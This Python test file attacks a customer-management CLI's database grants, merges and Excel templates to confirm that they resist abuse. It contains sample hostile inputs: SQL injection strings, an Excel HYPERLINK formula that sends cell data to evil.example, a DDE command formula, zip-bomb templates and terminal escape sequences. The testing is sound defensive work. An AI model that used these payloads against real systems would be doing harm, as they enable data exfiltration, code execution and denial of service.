"""The department's database, merges and templates under attack: each case a way round the
fence, a field blanked, a cell made live, a cost without bound, a secret printed or a
traceback, as a manager's login or a user with a bad file would try it (issue 42)."""

from __future__ import annotations

import json
import os
import resource
import shutil
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.conftest import Cli

ROOT = Path(__file__).resolve().parents[1]


def _env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CUST_")}
    env.update(CUST_LANG="en", LANG="C.UTF-8", PYTHONPATH=str(ROOT), **extra)
    return env


def cust(*args: str, memory_mb: int = 1536, timeout: float = 120, **env: str):
    """cust in a process of its own, held to `memory_mb` of address space and `timeout`."""

    def limit() -> None:
        size = memory_mb << 20
        resource.setrlimit(resource.RLIMIT_AS, (size, size))

    return subprocess.run(
        [sys.executable, "-m", "custcli", *args],
        capture_output=True,
        text=True,
        env=_env(**env),
        timeout=timeout,
        preexec_fn=limit,
    )


def one_line(result, code: int = 2) -> str:
    lines = result.stderr.strip().splitlines()
    assert result.returncode == code, (result.returncode, result.stderr[-2000:])
    assert len(lines) == 1 and lines[0].startswith("cust: "), result.stderr[-2000:]
    return lines[0]


def _privileges(conn, login: str) -> dict[str, set[str]]:
    """Per table of the schema, what a login may do with it (only the tables it may use)."""
    held: dict[str, set[str]] = {}
    tables = [
        r[0]
        for r in conn.execute("SELECT tablename FROM pg_tables WHERE schemaname = current_schema()")
    ]
    for table in tables:
        for privilege in ("SELECT", "INSERT", "UPDATE", "DELETE", "TRUNCATE", "REFERENCES"):
            if conn.execute(
                "SELECT has_table_privilege(?, ?, ?)", (login, table, privilege)
            ).fetchone()[0]:
                held.setdefault(table, set()).add(privilege)
    return held


FORGED_SET = (
    "INSERT INTO figure_sets (version, digest, recipe, columns) VALUES (0, 'x', '{}', '[]')"
)


def _login(cli: Cli) -> str:
    return cli.db.split("//")[1].split("@")[0]


# --- 1-3: least privilege on PostgreSQL ---------------------------------------------------


def test_a_manager_may_do_exactly_what_its_commands_need_with_each_table(department):
    """Every table and sequence of the schema, and what a manager's login may do with it:
    the shared tables read only, the owner's own not at all, nothing beyond MANAGER_TABLES."""
    from custcli.db import grants
    from custcli.db.opening import open_db

    owner, li, _nobody, _granted = department
    conn = open_db(owner.db)
    login = _login(li)
    tables = {
        r[0]
        for r in conn.execute("SELECT tablename FROM pg_tables WHERE schemaname = current_schema()")
    }
    # Every table says what a manager may do with it.
    assert tables == set(grants.MANAGER_TABLES) | set(grants.OWNER_ONLY)
    assert _privileges(conn, login) == {t: set(p) for t, p in grants.MANAGER_TABLES.items()}
    for shared in ("brands", "plans", "policies", "pyramid", "figure_sets", "data_versions"):
        assert grants.MANAGER_TABLES[shared] == ("SELECT",)
    sequences = [
        r[0]
        for r in conn.execute(
            "SELECT sequencename FROM pg_sequences WHERE schemaname = current_schema()"
        )
    ]
    assert sequences
    for sequence in sequences:
        for privilege in ("USAGE", "SELECT", "UPDATE"):
            assert not conn.execute(
                "SELECT has_sequence_privilege(?, ?, ?)", (login, sequence, privilege)
            ).fetchone()[0], (sequence, privilege)
    functions = [
        r[0]
        for r in conn.execute(
            "SELECT p.oid::regprocedure::text FROM pg_proc p"
            " JOIN pg_namespace n ON n.oid = p.pronamespace WHERE n.nspname = current_schema()"
        )
    ]
    runnable = {
        f
        for f in functions
        if conn.execute("SELECT has_function_privilege(?, ?, 'EXECUTE')", (login, f)).fetchone()[0]
        and conn.execute(
            "SELECT prosecdef FROM pg_proc WHERE oid = ?::regprocedure", (f,)
        ).fetchone()[0]
    }
    assert runnable == set(grants.FUNCTIONS)  # the only functions that run as the owner
    conn.close()


def test_a_manager_writes_none_of_the_departments_shared_tables(department, today):
    owner, li, _nobody, _granted = department
    imports = owner.json("imports")
    brands_before = owner.json("brand", "list")
    refused = "your PostgreSQL login may not do this"
    for args in (
        ("brand", "add", "新品牌", "--wholesale", "100"),
        ("brand", "rm", brands_before[0]["name"]),
        ("plan", "set", "--year", "2026", "--volume", "1", "--revenue", "1"),
        ("policy", "set", "--month", "2026-11", "--text", "假政策"),
    ):
        assert refused in li.fails(2, *args)
    for table, statement in (
        ("figure_sets", FORGED_SET),
        ("pyramid", "UPDATE pyramid SET tier = 'top'"),
        ("brands", "UPDATE brands SET wholesale_price = 1"),
        ("imports", "UPDATE imports SET undone_at = 'x'"),
        ("data_versions", "UPDATE data_versions SET version = 0"),
        ("cust_grants", "INSERT INTO cust_grants (login, manager) VALUES ('x', '王芳')"),
    ):
        with pytest.raises(Exception) as raised:
            _as(li, statement)
        assert getattr(raised.value, "sqlstate", None) == "42501" or "0 rows" in str(
            raised.value
        ), table
    # The owner's imports: not undone by a manager, and listed to it only where they
    # touched its shops (the brand list touched none).
    orders = next(i for i in imports if i["kind"] == "orders")
    line = li.fails(2, "imports", "undo", str(orders["id"]))
    assert "a manager's login undoes only its own imports" in line
    assert owner.json("imports") == imports and not any(i["undone_at"] for i in imports)
    seen = {i["kind"] for i in li.json("imports")}
    assert "brands" not in seen and "orders" in seen
    assert owner.json("brand", "list") == brands_before


def _as(cli: Cli, statement: str) -> None:
    """One statement as a login, straight to PostgreSQL; an UPDATE that changes nothing the
    fence lets through is refused too."""
    import psycopg

    with psycopg.connect(cli.db, autocommit=True) as conn:
        cursor = conn.execute(statement)
        if statement.startswith("UPDATE") and cursor.rowcount == 0:
            raise RuntimeError("0 rows")


def test_the_fence_asks_for_a_login_s_managers_once_a_statement_not_once_a_card(department):
    """The policies ask cust_managers() in a scalar subquery, run once per statement (an
    InitPlan); called bare, PostgreSQL ran it for every card, 1.1 s of each of a manager's
    statements at city scale. Held for the cards and for a table fenced through them."""
    import psycopg

    _owner, li, _nobody, _granted = department
    with psycopg.connect(li.db, autocommit=True) as conn:
        for table in ("customers", "visits"):
            plan = "\n".join(r[0] for r in conn.execute(f"EXPLAIN SELECT count(*) FROM {table}"))
            assert "InitPlan" in plan, plan
            assert "ANY (cust_managers())" not in plan, plan


def test_revoke_takes_back_every_privilege_a_grant_gave(department):
    from custcli.db.opening import open_db

    owner, li, _nobody, _granted = department
    login = _login(li)
    owner.ok("db", "revoke", "李明", "--role", login)
    conn = open_db(owner.db)
    assert _privileges(conn, login) == {}
    assert not conn.execute(  # nothing given on the schema itself (PUBLIC's use aside)
        "SELECT count(*) FROM pg_namespace n, aclexplode(n.nspacl) a"
        " WHERE n.nspname = current_schema() AND a.grantee = ?::regrole",
        (login,),
    ).fetchone()[0]
    for function in ("cust_managers()", "cust_orders_changed()"):
        assert not conn.execute(
            "SELECT has_function_privilege(?, ?, 'EXECUTE')", (login, function)
        ).fetchone()[0]
    conn.close()
    with pytest.raises(Exception) as raised:
        _as(li, FORGED_SET)
    assert raised.value.sqlstate == "42501"


PAYLOAD = "x'); CREATE TABLE pwned_{n} (i int); SELECT ('"


def test_sql_a_manager_writes_in_any_table_is_never_run_by_anyone(department, tmp_path, today):
    """A manager's login writes SQL into every text column of every table it may write;
    the owner then runs every reading, checking and writing command: no statement of it
    ever runs (a table it would make never appears)."""
    from custcli.db import grants

    owner, li, _nobody, _granted = department
    mine = li.json("list")[0]["code"]
    li.ok("note", mine, "普洱")
    li.ok("visit", "log", mine, "--note", "补价签", "--follow-up", "带样品", "--due", "+3d")
    li.ok("complaint", "add", mine, "--text", "送货晚")
    li.ok("date", "add", mine, "生日", "03-08")
    orders = tmp_path / "o.csv"
    orders.write_text(f"客户编码,日期,品名,数量,金额\n{mine},{today},玉溪(软),1,180\n", "utf-8")
    li.ok("import", str(orders), "--kind", "orders")
    import psycopg

    _as(li, "INSERT INTO drill_misses (customer_id, missed, asked) SELECT id, 1, 1 FROM customers")

    written = 0
    with psycopg.connect(li.db, autocommit=True) as conn:
        for table, privileges in grants.MANAGER_TABLES.items():
            if "UPDATE" not in privileges:
                continue
            columns = [
                r[0]
                for r in conn.execute(
                    "SELECT column_name FROM information_schema.columns WHERE table_name = %s"
                    " AND data_type = 'text' AND table_schema = current_schema()",
                    (table,),
                )
            ]
            for column in columns:
                n = f"{table}_{column}"
                try:
                    conn.execute(
                        f"UPDATE {table} SET {column} = %s || coalesce({column}, '')",
                        (PAYLOAD.format(n=n),),
                    )
                    written += 1
                except psycopg.Error:
                    pass  # a constraint (a key's shape) or the fence said no: not written
    assert written > 20
    owner_commands = [
        ("db", "check"), ("db", "status"), ("list",), ("find", "x"), ("show", mine),
        ("today",), ("due",), ("pyramid",), ("churn",), ("loyal",), ("managers",), ("brief",),
        ("imports",), ("history", mine), ("visit", "list"), ("followup", "list"),
        ("complaint", "list"), ("report", "monthly", "--month", "本月"),
        ("report", "monthly", "--month", "上月", "-o", str(tmp_path / "r.xlsx")),
        ("export", "customers", "-o", str(tmp_path / "c.xlsx")),
        ("export", "visits", "-o", str(tmp_path / "v.csv")),
        ("export", "complaints", "-o", str(tmp_path / "p.xlsx")),
        ("db", "check", "--repair"),
    ]  # fmt: skip
    crashed = []
    for args in owner_commands:
        result = owner(*args)
        if not isinstance(result.exception, SystemExit | None):
            crashed.append((args, repr(result.exception)))
    assert crashed == []
    for imported in li.json("imports"):
        li("imports", "undo", str(imported["id"]))
    assert owner.sql("SELECT tablename FROM pg_tables WHERE tablename LIKE 'pwned%'") == []


def test_a_kept_figure_set_holds_no_sql_and_a_forged_one_is_only_counted(department):
    """db check builds a kept set's query from its recipe, checked word by word: a recipe
    with SQL in it is a mismatch, never a statement."""
    owner, _li, _nobody, _granted = department
    owner.ok("churn")
    columns = {
        r[0]
        for r in owner.sql(
            "SELECT column_name FROM information_schema.columns WHERE table_name = 'figure_sets'"
        )
    }
    assert "query" not in columns and "recipe" in columns
    forged = json.dumps(
        {"windows": [["a0 FROM customers; CREATE TABLE pwned (i int); --", "2026-01-01",
                      "2026-02-01"]], "through": "2026-02-01", "year_from": None, "counts": []}
    )  # fmt: skip
    owner.sql("UPDATE figure_sets SET recipe = ?", (forged,))
    report = (
        owner.json("db", "check")
        if owner("db", "check").exit_code == 0
        else json.loads(owner("db", "check", "--json").stdout)
    )
    assert report["figure_mismatches"] > 0
    assert owner.sql("SELECT tablename FROM pg_tables WHERE tablename LIKE 'pwned%'") == []


# --- 4: a merge never blanks a shop ------------------------------------------------------


def test_a_quick_card_on_a_laptop_never_blanks_the_shop(cli, tmp_path):
    full = {
        "--owner": "张三", "--phone": "13800138000", "--address": "五华区人民中路12号",
        "--account-manager": "李明", "--district": "城东片区", "--tier": "12",
        "--license-no": "530102100001", "--order-day": "周四", "--birthday": "04-12",
    }  # fmt: skip
    cli.ok("add", "--code", "000100000001", "--name", "张三烟酒店",
           *[x for pair in full.items() for x in pair])  # fmt: skip
    before = cli.json("show", "000100000001")["card"]
    laptop = Cli(tmp_path / "laptop.db")
    laptop.ok("add", "--code", "000100000001", "--name", "张三烟酒店(新)", "--notes", "门口有台阶")
    result = cli.json("merge", str(laptop.db))
    after = cli.json("show", "000100000001")["card"]
    assert {k: after[k] for k in before if k not in ("notes",)} == {
        k: before[k] for k in before if k not in ("notes",)
    }  # the name too: a quick card only fills what the shop lacks
    assert after["notes"] == "门口有台阶" and result["counts"]["values changed"] == 1


def test_a_laptop_that_emptied_a_field_does_not_erase_it(cli, tmp_path, today):
    cli.ok("add", "--code", "0001", "--name", "甲店", "--phone", "13800138000", "--owner", "甲")
    laptop_db = tmp_path / "laptop.db"
    if str(cli.db).startswith("postgresql"):
        pytest.skip("the laptop is a copy of a SQLite file")
    shutil.copy(cli.db, laptop_db)
    laptop = Cli(laptop_db)
    laptop.ok("edit", "0001", "--set", "phone=", "--set", "tier=12")
    laptop.sql("UPDATE changes SET changed_at = '2999-01-01T00:00:00'")
    cli.ok("merge", str(laptop_db))
    card = cli.json("show", "0001")["card"]
    assert card["phone"] == "13800138000" and card["tier"] == 12 and card["owner"] == "甲"


# --- 5: nothing live in a cell --------------------------------------------------------------


def test_values_in_a_filled_template_are_never_live(cli, tmp_path):
    evil_name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    evil_note = "=cmd|' /C calc'!A0"
    cli.ok("add", "--code", "0001", "--name", evil_name, "--account-manager", "李明")
    cli.ok("visit", "log", "0001", "--note", evil_note, "--date", "-1d")
    template = tmp_path / "t.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"] = "{{ 单位 }}"
    sheet["B1"] = '=CONCATENATE("单位：","{{ 单位 }}")'
    sheet.append(["{{ 拜访.店名 }}", "{{ 拜访.内容 }}", "{{ 拜访.店名 }} 的拜访"])
    book.save(template)
    target = tmp_path / "out.xlsx"
    result = cli(
        "report", "monthly", "--month", "本月", "--template", str(template), "-o", str(target),
        "--company", '"),HYPERLINK("http://evil.example","x',
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    assert "inside a formula" in result.stderr
    filled = openpyxl.load_workbook(target).active
    assert filled["B1"].value == '=CONCATENATE("单位：","{{ 单位 }}")'  # never spliced
    assert filled["A1"].data_type == "s"
    with zipfile.ZipFile(target) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert xml.count("<f>") == 1  # the template's own formula, and no other
    values = [c.value for c in filled[2]]
    assert values[0] == evil_name and values[1] == evil_note
    assert all(c.data_type == "s" for c in filled[2])


# --- 6: bounded cost ----------------------------------------------------------------------


def test_a_name_of_twenty_thousand_characters_costs_bounded_time_and_memory(tmp_path):
    source = tmp_path / "长.csv"
    source.write_text("客户编码,客户名称,经营者\n0001," + "长" * 20_000 + ",长" * 1 + "\n", "utf-8")
    db = tmp_path / "c.db"
    started = time.monotonic()
    result = cust("--db", str(db), "import", str(source), "--kind", "customers", "--json",
                  memory_mb=1024, timeout=60)  # fmt: skip
    assert result.returncode == 0, result.stderr[-2000:]
    assert time.monotonic() - started < 30
    warnings = json.loads(result.stdout)["warnings"]
    assert warnings and "at most 100 characters" in warnings[0]["reason"]
    line = one_line(cust("--db", str(db), "add", "--code", "0002", "--name", "长" * 10_000,
                         memory_mb=1024, timeout=30))  # fmt: skip
    assert "at most 100 characters" in line
    line = one_line(cust("--db", str(db), "note", "0001", "长" * 10_000, timeout=30))
    assert "at most 2000 characters" in line


def test_pinyin_is_worked_out_on_a_bounded_prefix():
    from custcli.domain.search import PINYIN_CHARS, pinyin_keys

    keys = pinyin_keys("长" * 5_000)
    assert len(keys) <= 2 * (PINYIN_CHARS + 1)
    assert max(map(len, keys)) <= PINYIN_CHARS * 6


# --- 7: templates pass the import's guards ------------------------------------------------


def _template_with(tmp_path: Path, name: str, parts: dict[str, bytes]) -> Path:
    """A minimal xlsx whose parts are given (the rest as openpyxl writes them)."""
    base = tmp_path / f"base-{name}.xlsx"
    book = openpyxl.Workbook()
    book.active["A1"] = "{{ 单位 }}"
    book.save(base)
    target = tmp_path / name
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            if item.filename not in parts:
                out.writestr(item, source.read(item))
        for filename, data in parts.items():
            out.writestr(filename, data)
    return target


def _sheet(rows: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org'
        f'/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
    ).encode()


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["zip bomb", "shared strings", "far cells", "many repeats"])
def test_a_hostile_template_is_refused_in_one_line_in_bounded_time(tmp_path, kind):
    if kind == "zip bomb":
        parts = {"xl/worksheets/sheet1.xml": _sheet("") + b" " * (400 << 20)}
    elif kind == "shared strings":
        strings = "".join(f"<si><t>{i}</t></si>" for i in range(1_500_000))
        parts = {"xl/sharedStrings.xml": (
            '<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml'
            f'/2006/main">{strings}</sst>').encode()}  # fmt: skip
    elif kind == "far cells":
        parts = {"xl/worksheets/sheet1.xml": _sheet(
            '<row r="1"><c r="A1" t="inlineStr"><is><t>{{ 单位 }}</t></is></c></row>'
            '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')}  # fmt: skip
    else:
        rows = "".join(
            f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>{{{{ 拜访.店名 }}}}</t></is></c></row>'
            for r in range(1, 2001)
        )
        parts = {"xl/worksheets/sheet1.xml": _sheet(rows)}
    template = _template_with(tmp_path, f"{kind}.xlsx", parts)
    db = tmp_path / "c.db"
    cust("--db", str(db), "add", "--code", "0001", "--name", "甲店")
    started = time.monotonic()
    out = tmp_path / "out.xlsx"
    args = ("report", "monthly", "--month", "本月", "--template", str(template), "-o", str(out))
    result = cust("--db", str(db), *args, memory_mb=1024, timeout=60)
    one_line(result)
    assert time.monotonic() - started < 30
    assert not (tmp_path / "out.xlsx").exists()


def test_the_template_itself_is_never_the_output(cli, tmp_path):
    cli.ok("add", "--code", "0001", "--name", "甲店")
    template = tmp_path / "t.xlsx"
    book = openpyxl.Workbook()
    book.active["A1"] = "{{ 单位 }}"
    book.save(template)
    before = template.read_bytes()
    link = tmp_path / "link.xlsx"
    link.symlink_to(template)
    for output in (template, tmp_path / "." / "t.xlsx"):
        line = cli.fails(2, "report", "monthly", "--month", "本月", "--template", str(template),
                         "-o", str(output))  # fmt: skip
        assert "is the template itself" in line
    assert template.read_bytes() == before


# --- 8: writers never fail behind a merge -------------------------------------------------


@pytest.mark.slow
@pytest.mark.sqlite_only
def test_a_writer_waits_for_a_long_merge_and_lands(tmp_path):
    db, laptop = tmp_path / "c.db", tmp_path / "laptop.db"
    for path in (db, laptop):
        assert cust("--db", str(path), "add", "--code", "0001", "--name", "甲店").returncode == 0
    assert cust("--db", str(laptop), "note", "0001", "门口有台阶").returncode == 0
    merging = subprocess.Popen(
        [sys.executable, "-m", "custcli", "--db", str(db), "merge", str(laptop)],
        env=_env(CUST_TEST_PAUSE="13"), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        text=True,
    )  # fmt: skip
    time.sleep(2)
    note = cust("--db", str(db), "note", "0001", "during the merge", timeout=60)
    assert note.returncode == 0, note.stderr
    assert "waiting for the import of laptop.db" in note.stderr
    assert merging.wait(timeout=60) == 0, merging.stderr.read()


# --- 9: a full disk -----------------------------------------------------------------------

FULL_DISK = """
set -u
mount -t tmpfs -o size=4m tmpfs "$DISK" || exit 77
cp "$SOURCE" "$DISK/c.db"
run() {
    "$PYTHON" -m custcli --db "$DISK/c.db" "$@" >/dev/null 2>"$DISK.err"
    echo "$? $(wc -l < "$DISK.err") $(head -c 300 "$DISK.err" | tr '\\n' ' ')"
}
fill() {  # the disk full, but for $1 KB left: room for the database to open, not to write
    rm -f "$DISK/filler" "$DISK/room"
    dd if=/dev/zero of="$DISK/room" bs=1k count="$1" 2>/dev/null
    dd if=/dev/zero of="$DISK/filler" bs=1k count=100000 2>/dev/null
    rm -f "$DISK/room"
}
fill 64; echo "import $(run import "$ORDERS")"
fill 64; echo "export $(run export orders -o "$DISK/o.xlsx")"
fill 64; echo "csv $(run export orders -o "$DISK/o.csv")"
fill 64; echo "report $(run report monthly --month 上月 -o "$DISK/r.xlsx")"
fill 64; echo "template $(run report monthly --month 上月 --template "$TEMPLATE" \\
    -o "$DISK/t.xlsx")"
fill 64; echo "backup $(run db backup -o "$DISK/b.db")"
echo "left $(ls -A "$DISK" | grep -v -e '^c.db' -e '^filler$' -e '^backups$' | tr '\\n' ' ')"
echo "parts $(ls -A "$DISK/backups" 2>/dev/null | grep -c part)"
rm -f "$DISK/filler"
echo "note $(run note 053010000001 after)"
echo "check $(run db check)"
umount "$DISK"
"""


@pytest.mark.slow
@pytest.mark.sqlite_only
def test_a_full_disk_is_one_line_and_leaves_nothing_behind(sample_db, sample_files, tmp_path):
    """Each writer on a disk with no room: one line saying the disk is full, exit 2, no
    partial file under any name, and the database as it was (a tmpfs of a private mount
    namespace, gone with its process even if the run is killed)."""
    if shutil.which("unshare") is None:
        pytest.skip("unshare is not on this machine")
    import uuid

    template = tmp_path / "t.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["{{ 拜访.日期 }}", "{{ 拜访.店名 }}", "{{ 拜访.内容 }}"])
    ballast = book.create_sheet("附表")  # a template larger than the room left
    for _ in range(4000):
        ballast.append([uuid.uuid4().hex for _ in range(5)])
    book.save(template)
    disk = tmp_path / "disk"
    disk.mkdir()
    result = subprocess.run(
        ["unshare", "-m", "--propagation", "private", "sh", "-c", FULL_DISK],
        capture_output=True, text=True, timeout=600,
        env=_env(DISK=str(disk), SOURCE=str(sample_db), PYTHON=sys.executable,
                 ORDERS=str(sample_files / "orders.xlsx"), TEMPLATE=str(template)),
    )  # fmt: skip
    if result.returncode == 77 or "mount" in result.stderr:
        pytest.skip(f"no private tmpfs here: {result.stderr.strip()[:200]}")
    said = dict(line.split(" ", 1) for line in result.stdout.strip().splitlines())
    for writer in ("import", "export", "csv", "report", "template", "backup"):
        code, lines, text = said[writer].split(" ", 2)
        assert (code, lines) == ("2", "1"), (writer, said[writer])
        assert "the disk is full" in text, (writer, text)
    assert said["left"].strip() == "" and said["parts"] == "0", said
    assert said["note"].startswith("0 0"), said["note"]
    assert said["check"].startswith("0 0"), said["check"]


# --- 10: secrets never printed -------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://li:S3cretPW@127.0.0.1:1/市场部?connect_timeout=1",
        "postgresql://li@127.0.0.1:1/市场部?password=S3cretPW&connect_timeout=1",
        "postgresql://li:S3c@retPW@127.0.0.1:1/市场部",
        "postgresql://li:S3c/retPW@127.0.0.1:1/市场部",
        "mysql://li:S3c@retPW@127.0.0.1/市场部",
    ],
)
def test_a_password_in_the_url_is_never_printed(url):
    from typer.testing import CliRunner

    from custcli.cli import app

    for args in (("list",), ("db", "path"), ("db", "status")):
        result = CliRunner().invoke(app, ["--db", url, *args], env={"CUST_LANG": "en"})
        shown = result.stdout + result.stderr
        for fragment in ("S3cretPW", "S3c", "retPW"):
            assert fragment not in shown, (args, shown)


def test_a_working_url_with_a_password_parameter_is_shown_without_it(pg_cluster):
    url = pg_cluster.url(pg_cluster.new_database()) + "&password=S3cretPW"
    cli = Cli(url)
    for args in (("db", "path"), ("db", "status")):
        out = cli.ok(*args).stdout
        assert "S3cretPW" not in out and "password" not in out


# --- 11: --redact by shape in free text -----------------------------------------------------


def test_redact_masks_numbers_in_free_text(cli, tmp_path):
    roster = tmp_path / "r.csv"
    roster.write_text(
        "客户编码,客户名称,备注,微信\n"
        "0001,甲店,老板手机 13812345678 身份证53010219800101123X,wx 139-1234-5678\n",
        "utf-8",
    )
    cli.ok("import", str(roster), "--kind", "customers")
    cli.ok("visit", "log", "0001", "--note", "卡号 6222 0212 3456 7890 123 转账", "--date", "-1d")
    cli.ok("complaint", "add", "0001", "--text", "来电 0871-65123456 投诉")
    out = tmp_path / "out.csv"
    texts = []
    for kind in ("customers", "visits", "complaints"):
        cli.ok("export", kind, "-o", str(out), "--redact")
        texts.append(out.read_text("utf-8-sig"))
    everything = "\n".join(texts)
    for secret in ("13812345678", "53010219800101123X", "1234-5678", "6222 0212 3456",
                   "65123456"):  # fmt: skip
        assert secret not in everything, secret
    assert "138****5678" in everything and "0871-****3456" in everything


# --- 12: the smaller ones -------------------------------------------------------------------


def test_another_managers_code_is_one_line_never_a_traceback(department, tmp_path):
    owner, li, _nobody, _granted = department
    other = next(c for c in owner.json("list") if c["account_manager"] != "李明")["code"]
    mine = li.json("list")[0]["code"]
    li.fails(2, "add", "--code", other, "--name", "抢注", "--account-manager", "李明")
    li.fails(2, "edit", mine, "--set", f"code={other}")
    roster = tmp_path / "r.csv"
    roster.write_text(f"客户编码,客户名称,客户经理\n{other},抢注,李明\n", "utf-8")
    result = li("import", str(roster), "--kind", "customers")
    assert isinstance(result.exception, SystemExit) and result.exit_code in (0, 2)
    laptop = Cli(tmp_path / "laptop.db")
    laptop.ok("add", "--code", other, "--name", "抢注", "--account-manager", "李明")
    result = li("merge", str(laptop.db))
    assert isinstance(result.exception, SystemExit), result.exception
    assert owner.json("show", other)["card"]["name"] != "抢注"


def _laptop(tmp_path: Path) -> Path:
    laptop = Cli(tmp_path / "laptop.db")
    laptop.ok("add", "--code", "0001", "--name", "甲店")
    laptop.ok("add", "--code", "0002", "--name", "乙店")
    laptop.ok("note", "0001", "普洱")
    return laptop.db


def test_a_card_whose_extra_is_not_json_is_left_out_and_named(cli, tmp_path):
    laptop = _laptop(tmp_path)
    conn = sqlite3.connect(laptop, isolation_level=None)
    conn.execute("UPDATE customers SET extra = 'not json' WHERE code = '0002'")
    conn.close()
    result = cli.json("merge", str(laptop))
    assert result["counts"]["cards new"] == 2
    assert result["warnings"] == [{"code": "0002", "not_taken": ["extra"]}]


@pytest.mark.parametrize("damage", ["missing table", "looping view"])
def test_a_laptop_file_with_a_table_gone_or_a_view_in_its_place_is_refused(cli, tmp_path, damage):
    laptop = _laptop(tmp_path)
    conn = sqlite3.connect(laptop)
    conn.execute("DROP TABLE notes")
    if damage == "looping view":
        conn.execute(
            "CREATE VIEW notes AS WITH RECURSIVE r(id) AS (SELECT 1 UNION ALL SELECT id + 1"
            " FROM r) SELECT id, 1 AS customer_id, 'x' AS uid, 'x' AS text,"
            " '2026-01-01' AS noted_on FROM r"
        )
    conn.commit()
    conn.close()
    started = time.monotonic()
    assert "not a complete cust file" in cli.fails(2, "merge", str(laptop))
    assert time.monotonic() - started < 20
    assert cli.json("list") == []


def test_records_without_ids_are_merged_once(cli, tmp_path):
    laptop = _laptop(tmp_path)
    sqlite3.connect(laptop, isolation_level=None).execute("UPDATE notes SET uid = NULL")
    cli.ok("merge", str(laptop))
    cli.ok("merge", str(laptop))
    assert cli.sql("SELECT count(*) FROM notes") == [(1,)]


def test_another_programs_sqlite_file_is_never_converted(cli, tmp_path):
    other = tmp_path / "other.db"
    conn = sqlite3.connect(other)
    conn.execute("CREATE TABLE customers (x)")
    conn.execute("CREATE TABLE things (y)")
    conn.execute("PRAGMA user_version = 3")
    conn.commit()
    conn.close()
    before = other.read_bytes()
    assert "not a cust" in cli.fails(2, "merge", str(other))
    assert "not a cust database" in Cli(other).fails(2, "list")
    result = cust("list", CUST_DB=str(other))
    assert "not a cust database" in one_line(result)
    assert other.read_bytes() == before


GBK = "\udcd6\udcd0\udcce\udcc4"  # 中文 in GBK, as Python keeps bytes that are not UTF-8
NOT_TEXT = "\udcff\udcfe"


@pytest.mark.parametrize(
    "args",
    [
        ("show", GBK),
        ("find", GBK),
        ("note", "0001", GBK),
        ("edit", "0001", "--set", f"notes={GBK}"),
        ("add", "--code", "0002", "--name", GBK),
        ("visit", "log", "0001", "--note", GBK),
        ("complaint", "add", "0001", "--text", GBK),
        ("date", "add", "0001", GBK, "03-08"),
        ("list", "--district", GBK),
        ("due", "--district", GBK),
        ("today", "--manager", GBK),
        ("pyramid", "--district", GBK),
        ("churn", "--manager", GBK),
        ("loyal", "--district", GBK),
        ("history", GBK),
        ("rm", GBK),
        ("import", f"{GBK}.csv"),
        ("merge", f"{GBK}.db"),
        ("export", "customers", "-o", f"{GBK}.xlsx"),
        ("brand", "add", GBK),
        ("policy", "set", "--month", "2026-11", "--text", GBK),
        ("brief", "--district", GBK),
        ("note", "0001", NOT_TEXT),
    ],
    ids=lambda a: " ".join(a).encode("utf-8", "replace").decode()[:30],
)
def test_arguments_that_are_not_utf8_are_read_as_gbk_or_refused_in_one_line(
    cli, tmp_path, args, monkeypatch
):
    cli.ok("add", "--code", "0001", "--name", "甲店")
    monkeypatch.chdir(tmp_path)
    result = cli(*args)
    assert isinstance(result.exception, SystemExit) or result.exception is None, result.exception
    assert "\\udc" not in result.stdout + result.stderr
    if NOT_TEXT in args:
        assert "neither UTF-8 nor GBK" in result.stderr and result.exit_code == 2
    elif result.exit_code == 0 and args[0] in ("note", "edit", "complaint"):
        assert "中文" in json.dumps(cli.json("show", "0001"), ensure_ascii=False)


def test_a_gbk_file_name_is_imported_and_listed_in_chinese(cli, tmp_path):
    path = Path(os.fsdecode(os.fsencode(tmp_path) + b"/" + "订单.csv".encode("gbk")))
    path.write_bytes("客户编码,日期,品名,数量\n0001,2026-10-05,玉溪(软),2\n".encode())
    cli.ok("add", "--code", "0001", "--name", "甲店")
    cli.ok("import", str(path), "--kind", "orders")
    assert cli.json("imports")[0]["file_name"] == "订单.csv"


def test_history_prints_no_terminal_escapes(cli):
    cli.ok("add", "--code", "0001", "--name", "坏店\x1b]52;c;ZXZpbA==\x07\x1b[2J")
    out = cli.ok("history", "0001").stdout
    assert "\x1b" not in out and "\x07" not in out and "\\x1b" in out


@pytest.mark.parametrize(
    "args",
    [
        ("brand", "add", "甲", "--wholesale", "-1"),
        ("brand", "add", "甲", "--wholesale", "1e20"),
        ("brand", "add", "甲", "--retail", "nan"),
        ("brand", "add", "甲", "--wholesale", "inf"),
        ("plan", "set", "--year", "2026", "--volume", "inf", "--revenue", "1"),
        ("plan", "set", "--year", "2026", "--volume", "1", "--revenue", "1e300"),
        ("plan", "set", "--year", "2026", "--volume", "nan", "--revenue", "1"),
        ("plan", "set", "--year", "2026", "--volume", "1", "--revenue", "1", "--avg-price", "-5"),
    ],
)
def test_prices_and_plans_out_of_range_are_refused(cli, args):
    cli.fails(2, *args)
    assert cli.json("brand", "list") == [] and cli.json("brief")["plan"]["year_plan"] is None
